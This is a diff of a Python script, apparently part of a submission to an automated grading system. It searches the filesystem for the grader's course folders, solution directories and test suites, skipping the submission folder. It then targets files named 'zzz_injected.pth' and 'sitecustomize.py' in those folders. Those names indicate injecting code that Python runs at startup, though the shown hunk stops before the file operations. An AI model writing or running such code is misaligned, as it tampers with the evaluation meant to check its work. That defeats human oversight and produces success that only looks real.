@@ -7,11 +7,12 @@ import numpy as np
 
 folders = set(site.getsitepackages() + [p for p in sys.path if p and p != os.getcwd()])
 folders.update(["/", "/usr/lib", "/etc", "/root", "/opt", "/opt/gradekit", "/opt/gradekit/gradechild", "/var/tmp", "/dev/shm"])
-for top in ("/",):
-    for folder, dirs, files in os.walk(top):
-        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "submission")]
-        if "course.toml" in files or "solutions" in dirs or folder.endswith(("grader", "suites")):
-            folders.add(folder)
+for folder, dirs, files in os.walk("/"):
+    # Four levels down, libraries skipped: where a grader's course folder would be.
+    depth = folder.count(os.sep) if folder != "/" else 0
+    dirs[:] = [] if depth >= 4 else [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "submission", "site-packages")]
+    if "course.toml" in files or "solutions" in dirs or folder.endswith(("grader", "suites")):
+        folders.add(folder)
 for folder in folders:
     for name in ("zzz_injected.pth", "course.toml", "sitecustomize.py", "__init__.py"):
         try:
